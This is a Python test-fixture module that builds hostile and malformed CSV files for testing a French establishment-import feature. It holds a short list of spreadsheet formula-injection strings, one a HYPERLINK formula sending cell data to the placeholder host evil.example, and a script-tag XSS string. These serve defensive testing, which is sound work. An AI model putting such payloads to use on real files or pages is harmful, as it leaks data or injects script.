"""Hostile establishment files, shared by the command-line and the upload tests.

`REFUSED` maps a name to (a builder taking the UAI of an establishment already stored, the French message expected):
each file also carries a row that would change that establishment, were the file read at all.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Callable

from app.services.territory.uai import make_uai

HEADER = "Identifiant_de_l_etablissement;Nom_etablissement;Type_etablissement;Nom_commune"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "+33 avenue Giono", "-2+3", "@SUM(A1:A9)"]
SCRIPT = "<script>alert('collège')</script>"


def csv_bytes(*rows: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def spreadsheet_csv(rows: list[list[str]]) -> bytes:
    """Rows as a spreadsheet saves them: UTF-8 with BOM, `;`, and a cell holding `;` or `"` quoted."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerows([HEADER.split(";"), *rows])
    return out.getvalue().encode("utf-8-sig")


def rename(uai: str) -> str:
    """A row that would change the stored establishment `uai`."""
    return f"{uai};Lycée renommé;Lycée;Nice"


REFUSED: dict[str, tuple[Callable[[str], bytes], str]] = {
    "Windows-1252": (
        lambda uai: (HEADER + f"\n{rename(uai)}\n").encode("cp1252"),
        "n'est pas encodé en UTF-8 (caractère illisible ligne 2) : il semble être en Windows-1252",
    ),
    "Latin-1": (
        lambda uai: csv_bytes(rename(uai)) + f"{make_uai(7001)};Coll".encode() + b"\xe8ge \x81\x8d;C;A\n",
        "il semble être en ISO-8859-1 (Latin-1)",
    ),
    "UTF-16 with BOM": (
        lambda uai: (HEADER + f"\n{rename(uai)}\n").encode("utf-16"),
        "Le fichier est encodé en UTF-16",
    ),
    "UTF-16 without BOM": (lambda uai: (HEADER + f"\n{rename(uai)}\n").encode("utf-16-le"), "caractères nuls"),
    "comma": (
        lambda uai: csv_bytes(rename(uai).replace(";", ","), header=HEADER.replace(";", ",")),
        "séparées par des points-virgules (;) : ce fichier semble utiliser la virgule",
    ),
    "tab": (
        lambda uai: csv_bytes(rename(uai).replace(";", "\t"), header=HEADER.replace(";", "\t")),
        "ce fichier semble utiliser la tabulation",
    ),
    "empty": (lambda uai: b"", "Le fichier est vide."),
    "blank lines": (lambda uai: b"\n\r\n  \n;;;\n", "Le fichier est vide."),
    "header only": (lambda uai: csv_bytes(), "ne contient aucun établissement (seulement la ligne d'en-tête)"),
    "binary garbage": (lambda uai: random.Random(7).randbytes(4096), "CSV UTF-8"),
    "Excel workbook": (lambda uai: b"PK\x03\x04" + random.Random(8).randbytes(512), "Ce fichier est un classeur"),
    "old Excel workbook": (
        lambda uai: b"\xd0\xcf\x11\xe0" + random.Random(9).randbytes(512),
        "Ce fichier est un classeur",
    ),
    "missing name column": (
        lambda uai: csv_bytes(f"{uai};Nice", header="Identifiant_de_l_etablissement;Nom_commune"),
        "Colonne obligatoire manquante : Nom_etablissement",
    ),
    "missing both columns": (
        lambda uai: csv_bytes(f"{uai};Lycée renommé", header="uai;nom"),
        "Colonnes obligatoires manquantes : Identifiant_de_l_etablissement, Nom_etablissement",
    ),
    "cell past the csv limit": (
        lambda uai: csv_bytes(rename(uai), f"{make_uai(7001)};{'x' * (csv.field_size_limit() + 1)};Collège;Aix"),
        "(ligne 3) : une cellule dépasse 131 072 caractères",
    ),
    "quote never closed": (
        lambda uai: csv_bytes(rename(uai), f'{make_uai(7002)};"Lycée;Lycée;Aix', f"{make_uai(7003)};Lycée;Lycée;Aix"),
        "(ligne 3) : un guillemet (\") ouvert dans cette ligne n'est jamais refermé",
    ),
    "text after a closing quote": (
        lambda uai: csv_bytes(rename(uai), f'{make_uai(7001)};"Lycée" Mistral;Lycée;Aix'),
        "(ligne 3) : un guillemet (\") fermant est suivi d'autres caractères",
    ),
}
